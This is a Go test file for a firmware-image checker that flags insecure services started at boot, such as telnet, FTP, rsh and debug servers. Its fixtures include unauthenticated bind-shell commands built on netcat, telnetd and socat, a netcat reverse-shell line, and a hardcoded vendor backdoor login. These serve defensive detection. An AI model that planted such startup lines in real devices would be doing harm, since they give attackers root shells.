package insecureservice

import (
	"strings"
	"testing"

	"assay/lab/check/checktest"
	"assay/lab/fact"
)

func start(line string, conditional bool) fact.Startup {
	w := strings.Fields(line)
	return fact.Startup{Syntax: "script", Command: line, Program: w[0], Args: w[1:], Conditional: conditional, Line: len(line)}
}

func TestFlawed(t *testing.T) {
	im := &checktest.Image{}
	im.File("bin/busybox", 0o755).Link("bin/telnetd", "busybox").Link("bin/tftpd", "busybox").Link("usr/bin/gdbserver", "../x").
		File("etc/init.d/rcS", 0o755, start("/bin/telnetd -p 2323 -l /bin/sh &", false), start("vsftpd", true), start("telnetd", false),
			start("/usr/sbin/in.rshd", true), start("/bin/nc -lp 9 -e /bin/ash", false)).
		File("etc/init.d/ftp", 0o755, start("/usr/sbin/vsftpd", false)).
		File("usr/sbin/vsftpd", 0o755)
	im.Want(t, Check,
		"critical shell: /bin/telnetd -p 2323 -l /bin/sh & @ etc/init.d/rcS:33",
		"critical shell: /bin/nc -lp 9 -e /bin/ash @ etc/init.d/rcS:25",
		"high telnet: telnetd @ etc/init.d/rcS:7",
		"medium ftp: vsftpd (under a condition) @ etc/init.d/rcS:6",
		"high rcommands: in.rshd (under a condition) @ etc/init.d/rcS:17",
		"info present: TFTP server @ bin/tftpd",
		"info present: debug server @ usr/bin/gdbserver")
}

func TestInstalled(t *testing.T) {
	im := &checktest.Image{}
	im.File("etc/init.d/rcS", 0o755, start("/usr/sbin/httpd", false)).
		File("etc/init.d/ftp", 0o755, start("/usr/sbin/vsftpd", false)).
		File("etc/init.d/debug", 0o755, start("/usr/sbin/telnetd -l/bin/sh", false))
	im.Want(t, Check,
		"low ftp: vsftpd (nothing that was read leads to this start-up file) @ etc/init.d/ftp:16",
		"high shell: /usr/sbin/telnetd -l/bin/sh (nothing that was read leads to this start-up file) @ etc/init.d/debug:27")
}

func TestClean(t *testing.T) {
	im := &checktest.Image{}
	im.File("usr/sbin/dropbear", 0o755).File("usr/sbin/dnsmasq", 0o755).File("bin/nc", 0o755).File("usr/share/telnetd", 0o644).
		Link("usr/bin/telnet", "busybox").Link("usr/bin/tftp", "busybox").
		File("etc/init.d/rcS", 0o755, start("/usr/sbin/dropbear -F", false), start("dnsmasq -C /etc/dnsmasq.conf", false), start("/bin/nc -e /bin/sh host 9", false))
	im.Want(t, Check)
}

func TestLogin(t *testing.T) {
	im := &checktest.Image{}
	im.File("etc/init.d/rcS", 0o755, start("/usr/sbin/telnetd -l /bin/login", false))
	im.Want(t, Check, "high telnet: telnetd @ etc/init.d/rcS:31")
}

func TestOtherKinds(t *testing.T) {
	im := &checktest.Image{}
	im.File("etc/init.d/rcS", 0o755, start("/usr/sbin/dnsmasq --enable-tftp=eth0", false), start("/usr/sbin/in.fingerd", false),
		start("/usr/bin/gdbserver :9999 /bin/x", false), start("/bin/nc -l -p 99 -e /bin/dump", false), start("/usr/bin/socat TCP-LISTEN:9 EXEC:/bin/sh,pty", false))
	im.Want(t, Check,
		"medium tftp: dnsmasq @ etc/init.d/rcS:36", "low finger: in.fingerd @ etc/init.d/rcS:20", "high debug: gdbserver @ etc/init.d/rcS:31",
		"high netcat: nc @ etc/init.d/rcS:29", "critical shell: /usr/bin/socat TCP-LISTEN:9 EXEC:/bin/sh,pty @ etc/init.d/rcS:44")
}

func TestCredentialsAndConsole(t *testing.T) {
	im := &checktest.Image{}
	shell := fact.Startup{Syntax: "inittab", Action: "respawn", Command: "-/bin/sh", Program: "/bin/sh", Line: 2}
	im.File("etc/inittab", 0o644, fact.Startup{Syntax: "inittab", Action: "sysinit", Program: "/etc/init.d/rcS", Line: 1}, shell).
		File("etc/init.d/rcS", 0o755, start("telnetd -l /usr/sbin/login -u Alphanetworks:$image_sign -i br0", true)).
		Link("usr/sbin/telnetd", "../../bin/busybox").File("bin/busybox", 0o755).Link("bin/sh", "busybox")
	im.Want(t, Check,
		"critical credentials: Alphanetworks:$image_sign (under a condition) @ etc/init.d/rcS:62",
		"medium console: -/bin/sh @ etc/inittab:2")
}

func TestByService(t *testing.T) {
	im := &checktest.Image{}
	inetd := func(line int, service, protocol, program string) fact.Startup {
		return fact.Startup{Syntax: "inetd", Action: service, Command: program, Program: program, Order: []string{"protocol=" + protocol, "user=root"}, Line: line}
	}
	im.File("etc/init.d/rcS", 0o755, checktest.Start(1, "inetd"), checktest.Start(2, "tcpsvd -vE 0.0.0.0 21 ftpd /")).
		File("bin/busybox", 0o755).Link("bin/inetd", "busybox").Link("bin/tcpsvd", "busybox").File("bin/own", 0o755).
		File("etc/inetd.conf", 0o644, inetd(1, "shell", "tcp", "/bin/own"), inetd(2, "tftp", "udp", "/bin/own2"), inetd(3, "127.0.0.1:telnet", "tcp", "/bin/telnetd"), inetd(4, "time", "tcp", "/bin/own3"))
	im.Want(t, Check, "high rcommands: own @ etc/inetd.conf:1", "medium tftp: own2 @ etc/inetd.conf:2", "low telnet: telnetd @ etc/inetd.conf:3", "medium ftp: tcpsvd @ etc/init.d/rcS:2")
}
